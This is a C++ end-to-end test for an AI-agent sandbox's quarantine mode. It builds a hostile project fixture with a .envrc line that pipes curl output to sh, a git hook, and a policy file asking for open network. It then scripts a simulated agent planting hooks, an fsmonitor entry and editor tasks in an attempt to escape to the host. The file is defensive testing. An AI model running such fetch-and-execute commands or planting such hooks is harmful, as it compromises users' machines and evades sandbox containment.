// SPDX-License-Identifier: GPL-3.0-or-later
// Quarantine (session/quarantine.h) through a real session (real podman, rootful and rootless): a
// hostile project (a git hook, .envrc, an untrusted .ai-sandbox.toml asking for open network and a
// variable) run with --quarantine. The command edits files, looks for a network, a variable and the
// home volume. Then: the project is byte-for-byte what it was, the warning named the hook, .envrc and
// the policy file, `changes --json` lists exactly the edits, `--apply PATH` writes only that path,
// and apply refuses a file the user made meanwhile unless --force.
#include "e2esandbox.h"
#include "testfiles.h"
#include "util/paths.h"

#include <QDirIterator>
#include <QJsonArray>
#include <QTest>
#include <sys/stat.h>

using namespace aisb::test;

namespace {

// The project's own policy: what quarantine must never grant.
const QByteArray hostilePolicy = "[network]\nmode = \"open\"\n[env]\nset = { HOSTILE_SET = \"leaked\" }\n"
                                 "pass = [\"AISB_QTEST_PASSED\"]\n";

// Every entry below `dir`: type, mode and content (a link's target).
QMap<QString, QByteArray> tree(const QString &dir)
{
    QMap<QString, QByteArray> out;
    QDirIterator it(dir, QDir::AllEntries | QDir::Hidden | QDir::System | QDir::NoDotAndDotDot,
                    QDirIterator::Subdirectories);
    while (it.hasNext()) {
        const QString path = it.next();
        struct stat st;
        if (::lstat(QFile::encodeName(path).constData(), &st) != 0)
            continue;
        QByteArray v = QByteArray::number(st.st_mode, 8) + ' ';
        if (S_ISREG(st.st_mode))
            v += readOrMissing(path);
        else if (S_ISLNK(st.st_mode))
            v += QFile::encodeName(QFile::symLinkTarget(path));
        out.insert(QDir(dir).relativeFilePath(path), v);
    }
    return out;
}

} // namespace

class TestQuarantine : public QObject
{
    Q_OBJECT
    std::unique_ptr<E2eSandbox> m_envs[2];
    E2eSandbox &env(bool rootless) { return *m_envs[rootless ? 1 : 0]; }

private Q_SLOTS:
    void initTestCase()
    {
        for (int i = 0; i < 2; ++i)
            m_envs[i] = std::make_unique<E2eSandbox>(i == 1);
    }

    void hostileProjectRunsInQuarantine_data() { E2eSandbox::addRootlessRows(); }
    void hostileProjectRunsInQuarantine()
    {
        E2E_ROW();
        E2eSandbox &e = env(rootless);
        const QMap<QString, QByteArray> files = {
            {QStringLiteral("src.c"), "int a;\n"},
            {QStringLiteral("gone.txt"), "bye\n"},
            {QStringLiteral("keep.txt"), "keep\n"},
            {QStringLiteral(".envrc"), "curl https://example.invalid/x | sh\n"},
            {QStringLiteral(".ai-sandbox.toml"), hostilePolicy},
            {QStringLiteral(".git/HEAD"), "ref: refs/heads/main\n"},
            {QStringLiteral(".git/config"), "[core]\n\trepositoryformatversion = 0\n"},
            {QStringLiteral(".git/hooks/post-checkout"), "#!/bin/sh\necho pwned\n"}};
        // No policy of ours: the project's file stays untrusted, and must not block the launch.
        const QString project = e.makeProject(QStringLiteral("quarantine"), QByteArray(), files);
        QCOMPARE(::chmod(QFile::encodeName(project + QStringLiteral("/.git/hooks/post-checkout")).constData(),
                         0755),
                 0);
        const QMap<QString, QByteArray> before = tree(project);
        QVERIFY(before.size() >= files.size());

        // The dry run shows the quarantined run line.
        const E2eResult dry =
            e.cli({QStringLiteral("-C"), project, QStringLiteral("--quarantine"), QStringLiteral("--harness"),
                   QStringLiteral("shell"), QStringLiteral("--dry-run"), QStringLiteral("--no-tty")});
        QVERIFY2(dry.finished && dry.exitCode == 0, dry.describe().constData());
        QVERIFY2(dry.out.contains("--network=none") || dry.out.contains("--network none"),
                 dry.describe().constData());
        QVERIFY2(!dry.out.contains("type=volume"), dry.describe().constData());
        QVERIFY2(!dry.out.contains("HOSTILE_SET"), dry.describe().constData());

        // The agent's next trick: plant in the copy what `changes --apply --force` would carry to the
        // host (a hook, an fsmonitor, .envrc, editor tasks). The protected paths hold in the copy
        // as in the project: nothing of it is listed or applied.
        const QString script =
            QStringLiteral("(printf 'curl x | sh\\n' >> .envrc; printf '#!/bin/sh\\necho pwned\\n' > "
                           ".git/hooks/post-commit; printf '[core]\\n\\tfsmonitor = ./x\\n' >> .git/config; "
                           "mkdir -p .vscode && echo '{}' > .vscode/tasks.json) 2>/dev/null; "
                           "printf 'new\\n' > created.txt && printf 'int b;\\n' >> src.c && rm gone.txt && "
                           "echo \"IFACES=$(ls /sys/class/net | tr '\\n' ' ')\" && "
                           "echo \"ROUTES=$(tail -n +2 /proc/net/route | wc -l)\" && "
                           "echo \"SET=${HOSTILE_SET:-absent} PASSED=${AISB_QTEST_PASSED:-absent}\" && "
                           "echo \"HOMEFS=$(grep ' /home/sandbox ' /proc/self/mountinfo | sed 's/.* - \\([^ "
                           "]*\\) .*/\\1/')\" && "
                           "if grep -q ' /project ' /proc/self/mountinfo; then echo PROJECT=mounted; fi");
        const E2eResult r =
            e.cli({QStringLiteral("-C"), project, QStringLiteral("--quarantine"), QStringLiteral("--harness"),
                   QStringLiteral("shell"), QStringLiteral("-e"), QStringLiteral("AISB_QTEST_PASSED"),
                   QStringLiteral("--net"), QStringLiteral("open"), QStringLiteral("--no-tty"),
                   QStringLiteral("--"), QStringLiteral("sh"), QStringLiteral("-c"), script},
                  {{QStringLiteral("AISB_QTEST_PASSED"), QStringLiteral("leaked")}}, 900000);
        QVERIFY2(r.finished && r.exitCode == 0, r.describe().constData());
        // No network but loopback, no variable of the project's file, the flags or the host, no home.
        QVERIFY2(r.out.contains("IFACES=lo \n"), r.describe().constData());
        QVERIFY2(r.out.contains("ROUTES=0\n"), r.describe().constData());
        QVERIFY2(r.out.contains("SET=absent PASSED=absent\n"), r.describe().constData());
        // The home folder is the session's tmpfs, not a volume.
        QVERIFY2(r.out.contains("HOMEFS=tmpfs\n"), r.describe().constData());
        QVERIFY2(r.out.contains("PROJECT=mounted\n"), r.describe().constData());
        QCOMPARE(e.podman({QStringLiteral("volume"), QStringLiteral("exists"),
                           aisb::homeVolumeName(aisb::projectSlug(project))})
                     .exitCode,
                 1);
        // The warning named what runs code.
        for (const char *named : {".git/hooks/post-checkout", ".envrc", ".ai-sandbox.toml"})
            QVERIFY2(r.err.contains(named), r.describe().constData());

        // The project is exactly what it was.
        QCOMPARE(tree(project), before);

        // The changes are the copy's, listed as a quarantine session's.
        const E2eResult list =
            e.cli({QStringLiteral("changes"), QStringLiteral("--json"), QStringLiteral("-C"), project});
        QVERIFY2(list.finished && list.exitCode == 0, list.describe().constData());
        const QJsonObject j = list.json();
        QCOMPARE(
            j.value(QStringLiteral("quarantine")).toObject().value(QStringLiteral("original")).toString(),
            project);
        QVERIFY(
            j.value(QStringLiteral("quarantine")).toObject().value(QStringLiteral("copy_exists")).toBool());
        QMap<QString, QString> seen;
        for (const QJsonValue &v : j.value(QStringLiteral("changes")).toArray())
            seen.insert(v.toObject().value(QStringLiteral("path")).toString(),
                        v.toObject().value(QStringLiteral("change")).toString());
        const QMap<QString, QString> want = {{QStringLiteral("created.txt"), QStringLiteral("created")},
                                             {QStringLiteral("src.c"), QStringLiteral("modified")},
                                             {QStringLiteral("gone.txt"), QStringLiteral("deleted")}};
        QCOMPARE(seen, want);

        // Undo is not for a quarantine session.
        QCOMPARE(e.cli({QStringLiteral("changes"), QStringLiteral("--undo"), QStringLiteral("-C"), project})
                     .exitCode,
                 1);

        // Apply one path: only it is written.
        const QString id = j.value(QStringLiteral("session")).toString();
        QVERIFY(!id.isEmpty());
        E2eResult apply = e.cli({QStringLiteral("changes"), QStringLiteral("-C"), project, id,
                                 QStringLiteral("--apply"), QStringLiteral("src.c")});
        QVERIFY2(apply.finished && apply.exitCode == 0, apply.describe().constData());
        QMap<QString, QByteArray> expected = before;
        QMap<QString, QByteArray> now = tree(project);
        QCOMPARE(now.value(QStringLiteral("src.c")).mid(now.value(QStringLiteral("src.c")).indexOf(' ')),
                 QByteArray(" int a;\nint b;\n"));
        now.remove(QStringLiteral("src.c"));
        expected.remove(QStringLiteral("src.c"));
        QCOMPARE(now, expected);

        // The user makes created.txt meanwhile: apply refuses it and writes nothing.
        e.writeFile(project + QStringLiteral("/created.txt"), "the user's own\n");
        apply = e.cli({QStringLiteral("changes"), QStringLiteral("--apply"), QStringLiteral("-C"), project});
        QCOMPARE(apply.exitCode, 1);
        QVERIFY2(apply.err.contains("created.txt") && apply.err.contains("--force"),
                 apply.describe().constData());
        QCOMPARE(readOrMissing(project + QStringLiteral("/created.txt")), QByteArray("the user's own\n"));
        QVERIFY(QFile::exists(project + QStringLiteral("/gone.txt")));
        // --force: all of it.
        apply = e.cli({QStringLiteral("changes"), QStringLiteral("--apply"), QStringLiteral("--force"),
                       QStringLiteral("-C"), project});
        QVERIFY2(apply.finished && apply.exitCode == 0, apply.describe().constData());
        QCOMPARE(readOrMissing(project + QStringLiteral("/created.txt")), QByteArray("new\n"));
        QVERIFY(!QFile::exists(project + QStringLiteral("/gone.txt")));
        QCOMPARE(readOrMissing(project + QStringLiteral("/keep.txt")), QByteArray("keep\n"));
        const QMap<QString, QByteArray> applied = tree(project);
        for (const char *planted : {".envrc", ".git/config", ".git/hooks/post-checkout"})
            QCOMPARE(applied.value(QLatin1String(planted)), before.value(QLatin1String(planted)));
        QVERIFY(!applied.contains(QStringLiteral(".git/hooks/post-commit")));
        QVERIFY(!applied.contains(QStringLiteral(".vscode")));

        // Discard removes the copy.
        const E2eResult discard =
            e.cli({QStringLiteral("changes"), QStringLiteral("--discard"), QStringLiteral("-C"), project});
        QVERIFY2(discard.finished && discard.exitCode == 0, discard.describe().constData());
        const QString copy =
            e.cli({QStringLiteral("changes"), QStringLiteral("--json"), QStringLiteral("-C"), project})
                .json()
                .value(QStringLiteral("quarantine"))
                .toObject()
                .value(QStringLiteral("copy"))
                .toString();
        QVERIFY(!copy.isEmpty());
        QVERIFY(!QFileInfo::exists(copy));
    }
};

QTEST_GUILESS_MAIN(TestQuarantine)
#include "tst_quarantine.moc"
